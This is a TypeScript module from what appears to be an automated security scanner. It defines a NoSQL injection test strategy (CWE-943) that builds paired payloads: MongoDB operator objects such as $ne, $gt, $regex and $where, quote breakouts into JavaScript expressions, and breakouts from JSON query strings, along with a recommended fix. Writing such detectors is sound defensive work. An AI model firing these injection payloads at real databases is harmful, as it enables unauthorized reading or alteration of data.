import { looksLike } from '../affinity.ts';
import { writesByName } from '../destructive.ts';
import { pair, plainSeed } from '../proofs.ts';
import type { Payload, Position, Strategy } from '../strategy.ts';

/** An object with an operator where a value belongs; `$eq` means what the value alone means. */
function operators({ seed }: Position): Payload[] {
  const same = `{"$eq":${seed}}`;
  const others: readonly [string, boolean, string][] = [
    ['not-equal', true, `{"$ne":${seed}}`],
    ['greater', true, '{"$gt":""}'],
    ['not-in', false, `{"$nin":[${seed}]}`],
    ['regex', false, '{"$regex":".*"}'],
    ['exists', false, '{"$exists":true}'],
    ['at-least', false, '{"$gte":""}'],
    ['not', false, `{"$not":{"$eq":${seed}}}`],
  ];
  return others.flatMap(([id, isCore, json]) => [
    {
      id: `operator-${id}`,
      isCore,
      make: () => ({ json, expects: [{ kind: 'differs', same }] }),
    },
    // For those who read a text as JSON where it looks so. Whoever counts words must count as many in both.
    ...(wordsIn(json) === wordsIn(same) ? [pair(`operator-text-${id}`, isCore, same, json)] : []),
  ]);
}

const wordsIn = (text: string): number => text.split(/\s+/).length;

/** Out of a text in a line of JavaScript. Only signs that neither SQL nor XPath reads so. */
function scripts(seed: string): Payload[] {
  const quoted = [
    { id: 'quote', quote: "'", isCore: true },
    { id: 'double-quote', quote: '"', isCore: false },
    { id: 'backquote', quote: '`', isCore: false },
  ].flatMap(({ id, quote: q, isCore }) => [
    pair(
      `script-${id}-or`,
      isCore,
      `${seed}${q} || !this || ${q}a${q}==${q}b`,
      `${seed}${q} || !!this || ${q}a${q}==${q}b`,
    ),
    pair(
      `script-${id}-and`,
      isCore,
      `${seed}${q} && !!this && ${q}a${q}==${q}a`,
      `${seed}${q} && !this && ${q}a${q}==${q}a`,
    ),
    pair(`script-${id}-choice`, isCore, `${seed}${q} ? ${q}1${q} : ${q}`, `${seed}${q} ? ${q}${q} : ${q}1`),
    pair(`script-${id}-cut`, false, `${seed}${q} && !!this//`, `${seed}${q} && !this//`),
    pair(
      `script-${id}-then`,
      false,
      `${seed}${q} && !!this; var zq = ${q}1`,
      `${seed}${q} && !this; var zq = ${q}1`,
    ),
  ]);
  return [
    ...quoted,
    pair('script-number-or', false, `${seed} || !this`, `${seed} || !!this`),
    pair('script-number-and', false, `${seed} && !!this`, `${seed} && !this`),
  ];
}

/** Out of a text in a query written as JSON. */
function documents(seed: string): Payload[] {
  return [
    pair(
      'json-next',
      true,
      `${seed}"},{"_id":{"$eq":"zq"},"$comment":"zq`,
      `${seed}"},{"_id":{"$ne":"zq"},"$comment":"zq`,
    ),
    pair('json-member', true, `${seed}","$comment":"zq`, `${seed}","$nor":[{}],"$comment":"zq`),
    pair('json-where', false, `${seed}","$where":"1==1`, `${seed}","$where":"1==2`),
    pair(
      'json-nested',
      false,
      `${seed}"}],"$comment":"zq","$and":[{"$comment":"zq`,
      `${seed}"}],"$nor":[{}],"$and":[{"$comment":"zq`,
    ),
  ];
}

export const nosqlInjection: Strategy = {
  meta: {
    id: 'nosql-injection',
    title: 'Queries on documents',
    about: 'Operators in place of values, and text that ends the value in a query of JSON or JavaScript.',
    cwe: 'CWE-943',
    optIn: false,
    severity: 'high',
    finding: 'A value becomes part of a query on documents',
    fix: 'Check that a value is of the type you expect before it goes into a query, and wrap it with `$eq`. Build queries as objects, never as text, and use no `$where`.',
  },
  of: 'value',
  fits(subject, position) {
    if (position === undefined || subject.kind === 'protocol') return 0;
    // No such database is made for a run, and an operator that fits all changes all where a tool writes.
    if (writesByName(subject)) return 0;
    return Math.max(looksLike(position, 'query', subject), looksLike(position, 'user', subject));
  },
  payloads(subject, position) {
    if (position === undefined) return [];
    const seed = plainSeed(position);
    // Variables of a template and arguments of a prompt are texts, whatever is sent.
    const takesObjects = subject.kind === 'tool' || subject.kind === 'text';
    return [...(takesObjects ? operators(position) : []), ...scripts(seed), ...documents(seed)];
  },
};
